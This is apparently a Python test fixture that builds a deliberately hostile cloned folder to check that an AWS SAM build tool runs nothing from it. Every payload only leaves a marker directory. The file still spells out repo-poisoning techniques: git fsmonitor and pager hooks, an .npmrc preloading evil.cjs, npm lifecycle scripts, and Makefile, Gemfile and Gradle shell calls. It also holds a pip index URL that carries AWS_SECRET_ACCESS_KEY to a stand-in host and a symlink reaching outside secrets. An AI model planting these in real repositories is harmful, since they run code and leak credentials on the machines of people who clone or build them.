"""A folder as an attacker would have somebody clone it: everything in it that anything might run leaves a mark when it does."""

from __future__ import annotations

import textwrap
from pathlib import Path

TEMPLATE = """
    AWSTemplateFormatVersion: "2010-09-09"
    Transform: AWS::Serverless-2016-10-31
    Globals: {Function: {Timeout: 5, Runtime: python3.11, Handler: app.handler}}
    Resources:
      Plain: {Type: AWS::Serverless::Function, Properties: {CodeUri: plain/}}
      Wheels: {Type: AWS::Serverless::Function, Properties: {CodeUri: wheels/}}
      Indexed: {Type: AWS::Serverless::Function, Properties: {CodeUri: indexed/}}
      Project:
        Type: AWS::Serverless::Function
        Properties: {CodeUri: project/}
        Metadata: {BuildMethod: python-uv}
      Made:
        Type: AWS::Serverless::Function
        Properties: {CodeUri: made/, Runtime: provided.al2023}
        Metadata: {BuildMethod: makefile}
      Npm: {Type: AWS::Serverless::Function, Properties: {CodeUri: jsapp/, Runtime: nodejs20.x}}
      Bundle:
        Type: AWS::Serverless::Function
        Properties: {CodeUri: packed/, Runtime: nodejs20.x}
        Metadata: {BuildMethod: esbuild}
      Gems: {Type: AWS::Serverless::Function, Properties: {CodeUri: gems/, Runtime: ruby3.3}}
      Wrapper: {Type: AWS::Serverless::Function, Properties: {CodeUri: wrapper/, Runtime: java21, Handler: A::b}}
      Elsewhere: {Type: AWS::Serverless::Function, Properties: {CodeUri: ../elsewhere}}
      Linked: {Type: AWS::Serverless::Function, Properties: {CodeUri: linked/}}
      Layered:
        Type: AWS::Serverless::Function
        Properties: {CodeUri: plain/, Layers: [!Ref MadeLayer]}
      MadeLayer:
        Type: AWS::Serverless::LayerVersion
        Properties: {ContentUri: made/}
        Metadata: {BuildMethod: makefile}
      Foreign:
        Type: AWS::Serverless::Function
        Properties: {PackageType: Image, ImageUri: "registry.example/evil:latest"}
      Contained:
        Type: AWS::Serverless::Function
        Properties: {PackageType: Image}
        Metadata: {Dockerfile: Dockerfile, DockerContext: .}
"""
BUILT = ("Wheels", "Indexed", "Project", "Made", "Npm", "Bundle", "Gems", "Wrapper", "Layered")
"""Functions whose builds run what came with the folder."""
NAMED = ("Elsewhere", "Linked", "Foreign", "Contained")
"""Functions that bring an image, or code from elsewhere."""

_PROGRAMS = (
    ".venv/bin/python", ".venv/bin/python3", ".venv/bin/python3.11", ".venv/bin/pip", ".venv/bin/uv", "venv/bin/python", "python",
    "python3", "python3.11", "node", "npm", "npx", "uv", "pip", "ruby", "bundle", "make", "git", "docker", "podman", "bwrap",
    "pasta", "slirp4netns", "systemd-run", "mkfs.ext4", "gcc", "ldconfig", "sh", "java", "gradlew", "mvnw", "wrapper/gradlew",
    "node_modules/.bin/node", "node_modules/.bin/npm", "node_modules/.bin/esbuild", "node_modules/.bin/uv",
    "packed/node_modules/.bin/esbuild", "packed/node_modules/.bin/node", "bin/python3", "bootstrap", "made/build.sh",
    ".git/hooks/post-checkout", ".git/hooks/pre-commit", ".git/hooks/fsmonitor", "plain/.venv/bin/python", "gems/bin/bundle",
)
_PYTHON = (
    "sitecustomize.py", "usercustomize.py", "conftest.py", ".pythonrc", ".pythonrc.py", "setup.py", "wheels/setup.py",
    "wheels/pkg/setup.py", "project/backend.py", "project/setup.py", "msgspec.py", "uvloop.py", "asyncio.py", "typing.py",
    "platformdirs.py", "yaml.py", "typer.py", "workbench_plugin.py", "plain/sitecustomize.py", "plain/conftest.py",
    ".workbench/sitecustomize.py", ".venv/lib/python3.11/site-packages/sitecustomize.py",
    ".venv/lib/python3.11/site-packages/pip/__init__.py", "noxfile.py", "tasks.py", "plain/app.py",
    "jedi.py", ".jedi/project.json",
)


class HostileClone:
    """`root` is the folder; `marks` names what of it was run."""

    def __init__(self, place: Path) -> None:
        self.root = place / "clone"
        self._marks = place / "marks"
        self._marks.mkdir(parents=True)
        for name in _PROGRAMS:
            self.write(name, f"#!/bin/sh\n{self.shell(name)}\nexit 1\n", mode=0o755)
        for name in _PYTHON:
            self.write(name, f"import os\nos.makedirs({self._mark(name)!r}, exist_ok=True)\n")
        self._configurations()
        self._projects()
        self.write("template.yaml", textwrap.dedent(TEMPLATE))

    @property
    def marks(self) -> list[str]:
        """What was run."""
        return sorted(path.name for path in self._marks.iterdir())

    def shell(self, name: str) -> str:
        """A line of a shell that leaves the mark."""
        return f"mkdir -p '{self._mark(name)}'"

    def write(self, name: str, text: str, mode: int = 0o644) -> Path:
        """A file of the folder."""
        path = self.root / name
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(text)
        path.chmod(mode)
        return path

    def _mark(self, name: str) -> str:
        return str(self._marks / name.replace("/", "-"))

    def _configurations(self) -> None:
        self.write(".npmrc", f"script-shell={self.root}/sh\nnode-options=--require {self.root}/evil.cjs\nregistry=http://127.0.0.1:9/\n")
        self.write("evil.cjs", f"require('fs').mkdirSync({self._mark('evil.cjs')!r}, {{recursive: true}})\n")
        for name in ("pip.conf", ".venv/pip.conf", "config/pip/pip.conf"):
            self.write(name, "[global]\nindex-url = http://127.0.0.1:9/\n")
        self.write("uv.toml", 'index-url = "http://127.0.0.1:9/"\n')
        self.write(".venv/pyvenv.cfg", f"home = {self.root}/bin\nversion = 3.11.7\n")
        self.write("venv/pyvenv.cfg", f"home = {self.root}/bin\nversion = 3.11.7\n")
        self.write("plain/.venv/pyvenv.cfg", "home = bin\nversion = 3.11.7\n")
        self.write(".git/HEAD", "ref: refs/heads/main\n")
        self.write(".git/config", f"[core]\n\tfsmonitor = {self.root}/.git/hooks/fsmonitor\n\tpager = {self.root}/git\n")
        self.write(".envrc", self.shell(".envrc") + "\n")
        self.write(".python-version", "3.11\n")
        self.write("mise.toml", f"[hooks]\nenter = \"{self.shell('mise')}\"\n")
        self.write(".vscode/settings.json", '{"python.defaultInterpreterPath": "./python"}\n')

    def _projects(self) -> None:
        for name in ("Makefile", "made/Makefile", "GNUmakefile"):
            line = self.shell(name)
            self.write(name, f"_ := $(shell {line})\nbuild-Made build-MadeLayer:\n\t{line}\n\t./build.sh\n")
        self.write("Dockerfile", "FROM scratch\n")
        self.write("wheels/requirements.txt", "./pkg\nsix\n")
        self.write("wheels/app.py", "def handler(event, context): pass\n")
        self.write("indexed/requirements.txt", "--index-url https://user:${AWS_SECRET_ACCESS_KEY}@127.0.0.1:9/\nsix\n")
        self.write("indexed/app.py", "def handler(event, context): pass\n")
        self.write("project/pyproject.toml", '[project]\nname = "p"\nversion = "1"\ndynamic = ["dependencies"]\n'
                   '[build-system]\nrequires = []\nbuild-backend = "backend"\nbackend-path = ["."]\n')
        scripts = {"preinstall", "install", "postinstall", "prepare", "prepack", "build", "start"}
        texts = ", ".join(f'"{each}": "{self.shell("script-" + each)}"' for each in sorted(scripts))
        package = f'{{"name": "x", "version": "1.0.0", "scripts": {{{texts}}}'
        self.write("package.json", package + "}")
        self.write("jsapp/package.json", package + ', "dependencies": {"dep": "git+https://127.0.0.1:9/dep.git"}}')
        self.write("jsapp/.npmrc", f"git={self.root}/git\nscript-shell={self.root}/sh\n")
        self.write("packed/package.json", package + "}")
        self.write("packed/app.js", "exports.handler = async () => 1\n")
        self.write("gems/Gemfile", f"`{self.shell('Gemfile')}`\ngem 'rack'\n")
        self.write("wrapper/build.gradle", f"['sh', '-c', \"{self.shell('gradle')}\"].execute()\n")
        self.write("linked/app.py", "def handler(event, context): pass\n")
        elsewhere = self.root.parent / "elsewhere"
        elsewhere.mkdir()
        (elsewhere / "app.py").write_text("KEY = 'secret'\n")
        (self.root / "linked" / "keys").symlink_to(elsewhere)
